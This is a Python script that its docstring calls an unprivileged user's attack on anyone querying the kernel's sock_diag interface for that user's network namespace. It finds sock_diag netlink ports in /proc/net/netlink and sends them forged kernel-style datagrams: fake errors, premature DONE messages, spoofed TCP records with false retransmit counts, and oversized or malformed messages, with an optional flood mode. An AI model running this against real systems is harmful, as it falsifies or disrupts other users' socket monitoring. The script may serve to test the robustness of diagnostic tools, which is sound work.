"""An unprivileged user's attack on whoever asks the kernel about the sockets of a namespace of
theirs: datagrams as the kernel would send them, to every netlink socket of sock_diag in it.

Prints a line of JSON when it is ready, and another one when its standard input is closed."""

import json, os, select, socket, struct, subprocess, sys, time

SOCK_DIAG = 4
ERROR, DONE, RECORD = 2, 3, 20
SO_COOKIE = 57
RETRANSMITS = 2_000_000

subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
listener = socket.create_server(("127.0.0.1", 0))
client = socket.create_connection(listener.getsockname())
server, _ = listener.accept()
cookie = struct.unpack("=II", client.getsockopt(socket.SOL_SOCKET, SO_COOKIE, 8))


def message(kind, payload, sequence=0, port=0):
    return struct.pack("=IHHII", 16 + len(payload), kind, 2, sequence, port) + payload


def record(state, dead=cookie):
    """struct inet_diag_msg of the client, and a tcp_info with retransmits."""
    ends = struct.pack("!HH", client.getsockname()[1], client.getpeername()[1])
    addresses = (socket.inet_aton("127.0.0.1") + bytes(12)) * 2
    head = bytes([2, state, 0, 0]) + ends + addresses + struct.pack("=III", 0, *dead) + bytes(20)
    info = bytearray(240)
    struct.pack_into("=I", info, 100, RETRANSMITS)
    return head + struct.pack("=HH", 4 + len(info), 2) + bytes(info)


attack = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, SOCK_DIAG)
attack.bind((0, 0))
attack.setblocking(False)
count = {"targets": 0, "refused": 0, "unicasts": 0, "multicasts": 0, "seconds": 0}
known = set()


def targets():
    ports = set()
    with open("/proc/net/netlink") as table:
        for line in list(table)[1:]:
            fields = line.split()
            if int(fields[1]) == SOCK_DIAG:
                ports.add(int(fields[2]))
    return ports - {0, attack.getsockname()[0]}


def send(datagram, address, kind):
    try:
        attack.sendto(datagram, address)
        count[kind] += 1
    except ConnectionRefusedError:
        count["refused"] += kind == "unicasts"
    except (BlockingIOError, OSError):
        pass


flood = "--flood" in sys.argv
print(json.dumps({"cookie": cookie[0] | cookie[1] << 32, "inode": os.stat("/proc/self/ns/net").st_ino}), flush=True)
begun = time.monotonic()
number = 0
while not select.select([sys.stdin], [], [], 0 if flood else 0.001)[0]:
    number += 1
    ports = targets() if number % 50 == 1 or not flood else ports
    known |= ports
    for port in ports:
        for sequence in (0, number % 8):
            send(message(ERROR, struct.pack("=i", -13), sequence, port), (port, 0), "unicasts")
            send(message(DONE, struct.pack("=i", 0), sequence, port), (port, 0), "unicasts")
            send(message(RECORD, record(1), sequence, port), (port, 0), "unicasts")
    for group in (1, 2, 4, 8):
        for _ in range(64 if flood else 1):
            send(message(RECORD, record(7)), (0, group), "multicasts")
        send(message(RECORD, record(7, (number, 9))), (0, group), "multicasts")
        send(message(ERROR, struct.pack("=i", -13)), (0, group), "multicasts")
        send(message(RECORD, bytes(8192)), (0, group), "multicasts")
        send(b"\x01\x02\x03", (0, group), "multicasts")
count["targets"] = len(known)
count["seconds"] = time.monotonic() - begun
print(json.dumps(count), flush=True)
